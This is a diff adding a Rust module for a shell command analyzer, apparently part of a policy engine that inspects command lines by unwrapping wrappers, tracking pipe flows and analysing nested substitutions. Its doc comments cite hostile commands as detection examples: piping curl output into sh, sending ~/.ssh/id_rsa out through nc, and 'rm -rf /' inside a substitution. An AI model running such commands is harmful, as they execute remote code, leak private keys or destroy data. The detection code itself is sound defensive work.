@@ -1,0 +1,224 @@
+//! The shell analyzer: decides a command line by what the shell would run.
+//!
+//! Flow: the [lexer] removes quotes and records expansions; [parse] groups tokens into simple
+//! commands linked by pipes and resolves variables assigned earlier on the line; each command is
+//! unwrapped ([`unwrap`]: `sudo`, `env`, `timeout`, `xargs`, `bash -c`, `ssh host cmd`, …) down to
+//! the program that really runs, whose [programs] knowledge turns its arguments into facts.
+//! Command substitutions, process substitutions, `eval` strings, here-documents fed to shells and
+//! database clients, and literal payloads decoded from base64 are analysed as well, within the
+//! depth budget. What a pipe carries from one command to the next is tracked as a [`Flow`], so
+//! `curl … | sh` and `cat ~/.ssh/id_rsa | nc host 9` are seen for what they are.
+
+pub(crate) mod lexer;
+pub(crate) mod parse;
+pub(crate) mod programs;
+pub(crate) mod unwrap;
+
+use std::collections::HashMap;
+
+use crate::fact::{Fact, Facts, Severity, Span, Target};
+use crate::glob::Glob;
+use crate::intent::Intent;
+use crate::limits::Limits;
+
+use self::lexer::{Redir, RedirKind};
+use self::parse::{Arg, Command};
+
+/// What the policy tells the shell analyzer.
+#[derive(Debug, Clone, Default)]
+pub(crate) struct ShellPolicy {
+    /// The organisation's own domains and hosts (globs).
+    pub(crate) org_hosts: Vec<Glob>,
+    /// Branches that a force push must not rewrite.
+    pub(crate) protected_branches: Vec<Glob>,
+}
+
+/// Per-action state.
+#[derive(Debug)]
+pub(crate) struct ShellState<'l> {
+    pub(crate) depth_left: usize,
+    pub(crate) commands_left: usize,
+    pub(crate) limits: &'l Limits,
+    pub(crate) policy: &'l ShellPolicy,
+    pub(crate) vars: HashMap<String, Option<String>>,
+    /// The working directory after a `cd` on this line, when known.
+    pub(crate) cwd: Option<String>,
+    pub(crate) sensitive_tables: &'l [Glob],
+}
+
+impl<'l> ShellState<'l> {
+    pub(crate) fn new(limits: &'l Limits, policy: &'l ShellPolicy, sensitive_tables: &'l [Glob]) -> ShellState<'l> {
+        ShellState {
+            depth_left: limits.max_depth,
+            commands_left: limits.max_statements,
+            limits,
+            policy,
+            vars: HashMap::new(),
+            cwd: None,
+            sensitive_tables,
+        }
+    }
+}
+
+/// What a command writes to its standard output, as far as a pipe's reader is concerned.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Flow {
+    /// Nothing is piped or redirected in: the terminal.
+    Terminal,
+    /// Something whose content is not known.
+    Unknown,
+    /// Literal text (`echo …`, a here-document, a decoded payload).
+    Text(String),
+    /// Content downloaded from this URL.
+    Remote(String),
+    /// Secrets: credential files, environment variables.
+    Secret(String),
+    /// Bulk data: database dumps, archives, exports.
+    Data(String),
+}
+
+/// One command about to be checked: its resolved arguments and surroundings.
+#[derive(Debug)]
+pub(crate) struct Invocation<'a> {
+    pub(crate) args: Vec<Arg>,
+    pub(crate) stdin: Flow,
+    pub(crate) redirs: &'a [Redir],
+    /// Where facts point.
+    pub(crate) report: Span,
+    /// What each command substitution in the arguments produced.
+    pub(crate) subst_flows: Vec<(Span, Flow)>,
+}
+
+impl Invocation<'_> {
+    /// The argument values.
+    pub(crate) fn values(&self) -> Vec<&str> {
+        self.args.iter().map(|a| a.value.as_str()).collect()
+    }
+
+    pub(crate) fn fact(
+        &self,
+        intent: Intent,
+        severity: Severity,
+        detector: &'static str,
+        target: Option<Target>,
+        message: String,
+    ) -> Fact {
+        Fact { intent, severity, span: self.report, detector, target, message }
+    }
+}
+
+/// Analyses `text` as a command line. With `report`, facts point there (nested command text).
+/// Returns what the last command prints.
+pub(crate) fn analyze(text: &str, report: Option<Span>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    let whole = report.unwrap_or(Span::new(0, text.len()));
+    if text.len() > st.limits.max_input_bytes {
+        facts.push(unanalyzable(
+            whole,
+            format!("the command is {} bytes, over the {}-byte limit", text.len(), st.limits.max_input_bytes),
+        ));
+        return Flow::Unknown;
+    }
+    let commands = parse::commands(lexer::tokenize(text));
+    let mut outputs: Vec<Flow> = Vec::with_capacity(commands.len());
+    for cmd in &commands {
+        if st.commands_left == 0 {
+            facts.push(unanalyzable(whole, "the command line has more commands than the limit".to_owned()));
+            return Flow::Unknown;
+        }
+        st.commands_left -= 1;
+        let report = report.unwrap_or(cmd.span);
+        let stdin = stdin_of(cmd, &outputs, text);
+        let out = command(cmd, text, report, stdin, st, facts);
+        outputs.push(out);
+    }
+    outputs.pop().unwrap_or(Flow::Unknown)
+}
+
+/// What a command reads on standard input: its here-document or here-string, else the output of
+/// the command piped into it.
+fn stdin_of(cmd: &Command, outputs: &[Flow], src: &str) -> Flow {
+    for r in &cmd.redirs {
+        match r.kind {
+            RedirKind::Heredoc => {
+                if let Some(body) = r.body {
+                    return Flow::Text(src.get(body.range()).unwrap_or("").to_owned());
+                }
+            }
+            RedirKind::HereString => {
+                if let Some(t) = r.target.as_ref().and_then(parse::literal) {
+                    return Flow::Text(t);
+                }
+                return Flow::Unknown;
+            }
+            RedirKind::In => {
+                if let Some(path) = r.target.as_ref().and_then(parse::literal) {
+                    return programs::credentials::flow_of_file(&path);
+                }
+            }
+            _ => {}
+        }
+    }
+    match cmd.piped_from {
+        Some(i) => outputs.get(i).cloned().unwrap_or(Flow::Unknown),
+        None => Flow::Terminal,
+    }
+}
+
+fn command(cmd: &Command, src: &str, report: Span, stdin: Flow, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    // Assignments take effect for the rest of the line (and, as a prefix, for this command).
+    let mut subst_flows = Vec::new();
+    for (name, value) in &cmd.assigns {
+        let arg = parse::resolve(value, &st.vars);
+        let flows = substitutions(&arg, src, report, st, facts);
+        // `X=$(echo rm)` is as known as its substitution's literal output.
+        let known = match (arg.dynamic, flows.as_slice()) {
+            (false, _) => Some(arg.value.clone()),
+            (true, [(_, Flow::Text(t))]) if arg.substs.len() == 1 && arg.value == "$(…)" => {
+                Some(t.trim_end().to_owned())
+            }
+            _ => None,
+        };
+        st.vars.insert(name.clone(), known);
+        subst_flows.extend(flows);
+    }
+    let args: Vec<Arg> = cmd.words.iter().map(|w| parse::resolve(w, &st.vars)).collect();
+    for a in &args {
+        let flows = substitutions(a, src, report, st, facts);
+        subst_flows.extend(flows);
+    }
+    let inv = Invocation { args, stdin, redirs: &cmd.redirs, report, subst_flows };
+    programs::redirections::check(&inv, st, facts);
+    unwrap::run(inv, st, facts)
+}
+
+/// Command substitutions run too (`x=$(rm -rf /)`); returns what each one printed.
+fn substitutions(arg: &Arg, src: &str, report: Span, st: &mut ShellState<'_>, facts: &mut Facts) -> Vec<(Span, Flow)> {
+    arg.substs
+        .iter()
+        .chain(arg.proc_substs.iter())
+        .map(|s| (*s, nested(src.get(s.range()).unwrap_or(""), report, st, facts)))
+        .collect()
+}
+
+/// Analyses nested command text within the depth budget; returns what its last command prints.
+pub(crate) fn nested(text: &str, report: Span, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    if st.depth_left == 0 {
+        facts.push(unanalyzable(report, "commands are nested deeper than the limit".to_owned()));
+        return Flow::Unknown;
+    }
+    st.depth_left -= 1;
+    let saved_cwd = st.cwd.clone();
+    let out = analyze(text, Some(report), st, facts);
+    st.cwd = saved_cwd;
+    st.depth_left += 1;
+    out
+}
+
+pub(crate) fn unanalyzable(span: Span, why: String) -> Fact {
+    Fact::unanalyzable(span, "shell/unanalyzable", format!("the command could not be analysed: {why}"))
+}
+
+/// The program name of an argument: its last path component (`/usr/bin/rm` is `rm`).
+pub(crate) fn program_name(arg: &str) -> &str {
+    arg.rsplit('/').next().unwrap_or(arg)
+}
